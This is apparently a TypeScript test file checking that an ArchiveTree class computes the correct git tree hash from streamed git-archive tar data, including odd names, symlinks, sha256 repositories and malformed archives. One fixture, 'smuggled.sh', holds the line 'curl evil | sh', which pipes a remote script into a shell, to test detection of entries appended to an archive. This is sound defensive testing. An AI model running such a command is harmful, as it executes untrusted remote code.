import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { test } from 'uvu';
import { ArchiveTree, type SourceTree } from '../../src/manager/remote/archive-tree.js';
import type { ObjectFormat } from '../../src/manager/remote/git-tree.js';
import { makeRepo, type TestRepo } from '../helpers/git-repo.js';

function archive(repo: TestRepo, prefix?: string): Buffer {
  const args = [
    '-C',
    repo.path,
    'archive',
    '--format=tar',
    ...(prefix ? [`--prefix=${prefix}`] : []),
  ];
  return execFileSync('git', [...args, 'HEAD'], { maxBuffer: 1 << 28 });
}

/** Fed in uneven pieces, as frames arrive: no header or body lines up with a chunk. */
function treeOf(bytes: Buffer, format: ObjectFormat = 'sha1', under?: string): SourceTree {
  const tree = new ArchiveTree(format, under);
  const sizes = [1, 511, 513, 7, 4096, 100_000];
  for (let at = 0, i = 0; at < bytes.length; i++) {
    const n = sizes[i % sizes.length] as number;
    tree.write(bytes.subarray(at, at + n));
    at += n;
  }
  return tree.end();
}

function headTree(repo: TestRepo): string {
  return repo.git('rev-parse', 'HEAD^{tree}');
}

/** Executables, links, nested and tricky-sorting names, empty and non-ASCII files, long paths. */
function awkwardRepo(init: string[] = []): TestRepo {
  const repo = makeRepo();
  if (init.length) {
    rmSync(join(repo.path, '.git'), { recursive: true });
    repo.git('init', '-q', '-b', 'main', ...init);
  }
  const deep = Array.from({ length: 8 }, (_, i) => `directory-${i}-with-a-long-name`).join('/');
  const files: Record<string, string> = {
    'a.b': 'dot\n',
    'a/x': 'in a\n',
    'a-': 'dash\n',
    a0: 'zero\n',
    'a/b/c/d.txt': 'nested\n',
    'empty.txt': '',
    'héllo wörld ✓.txt': 'non-ascii\n',
    'naïve/ファイル': 'more\n',
    [`${deep}/leaf.txt`]: 'deep\n',
    'bin/run.sh': '#!/bin/sh\necho run\n',
  };
  for (const [f, text] of Object.entries(files)) repo.write(f, text);
  chmodSync(join(repo.path, 'bin/run.sh'), 0o755);
  symlinkSync('a/x', join(repo.path, 'link-to-file'));
  symlinkSync('../a.b', join(repo.path, 'a/b/up'));
  symlinkSync('nowhere', join(repo.path, 'dangling'));
  symlinkSync(`${deep}/leaf.txt`, join(repo.path, 'long-link'));
  mkdirSync(join(repo.path, 'a.b.dir'));
  repo.write('a.b.dir/f', 'dir that sorts after a.b\n');
  repo.commitAll('awkward');
  return repo;
}

test('the tree of git archive under src/ is the commit’s own tree', () => {
  const repo = awkwardRepo();
  assert.deepEqual(treeOf(archive(repo, 'src/'), 'sha1', 'src'), { gitTree: headTree(repo) });
  repo.remove();
});

test('the tree of git archive at the root is the commit’s own tree', () => {
  const repo = awkwardRepo();
  assert.deepEqual(treeOf(archive(repo)), { gitTree: headTree(repo) });
  repo.remove();
});

test('a sha256 repository’s tree is computed in its own object format', () => {
  const repo = awkwardRepo(['--object-format=sha256']);
  const tree = headTree(repo);
  assert.equal(tree.length, 64);
  assert.deepEqual(treeOf(archive(repo, 'src/'), 'sha256', 'src'), { gitTree: tree });
  repo.remove();
});

test('a commit with no files is the empty tree', () => {
  const repo = makeRepo();
  repo.commitAll('nothing');
  assert.deepEqual(treeOf(archive(repo, 'src/'), 'sha1', 'src'), { gitTree: headTree(repo) });
  repo.remove();
});

test('a submodule leaves the tree uncomputed, saying why', () => {
  const repo = makeRepo({ 'f.txt': 'x\n' });
  const commit = repo.commitAll('one');
  repo.git('update-index', '--add', '--cacheinfo', `160000,${commit},vendor/lib`);
  repo.git('commit', '-q', '-m', 'submodule');
  const tree = treeOf(archive(repo, 'src/'), 'sha1', 'src');
  assert.match((tree as { notComputed: string }).notComputed, /vendor\/lib .*submodule/);
  repo.remove();
});

test('entries appended after the end of the archive are in the tree, as the worker’s tar reads them', () => {
  const repo = makeRepo({ 'f.txt': 'x\n' });
  repo.commitAll('one');
  const extra = makeRepo({ 'smuggled.sh': 'curl evil | sh\n' });
  extra.commitAll('extra');
  const both = makeRepo({ 'f.txt': 'x\n', 'smuggled.sh': 'curl evil | sh\n' });
  both.commitAll('both');
  const appended = Buffer.concat([archive(repo, 'src/'), archive(extra, 'src/')]);
  assert.deepEqual(treeOf(appended, 'sha1', 'src'), { gitTree: headTree(both) });
  assert.notDeepEqual(treeOf(appended, 'sha1', 'src'), { gitTree: headTree(repo) });
  for (const r of [repo, extra, both]) r.remove();
});

test('an archive git could not have written leaves the tree uncomputed', () => {
  const repo = makeRepo({ 'f.txt': 'x\n' });
  repo.commitAll('one');
  const tar = archive(repo, 'src/');
  const cases: [Buffer, RegExp][] = [
    [Buffer.from('not a tar at all'), /partial block/],
    [gzipSync(tar), /not ustar|partial block/],
    [Buffer.concat([tar, tar]), /f\.txt appears twice/],
    [tar.subarray(0, 2049), /ends inside src\/f\.txt/],
    [archive(repo, 'elsewhere/'), /outside src\//],
  ];
  for (const [bytes, why] of cases) {
    const tree = treeOf(bytes, 'sha1', 'src');
    assert.ok('notComputed' in tree, `computed a tree from ${why}`);
    assert.match(tree.notComputed, why);
  }
  repo.remove();
});

test.run();
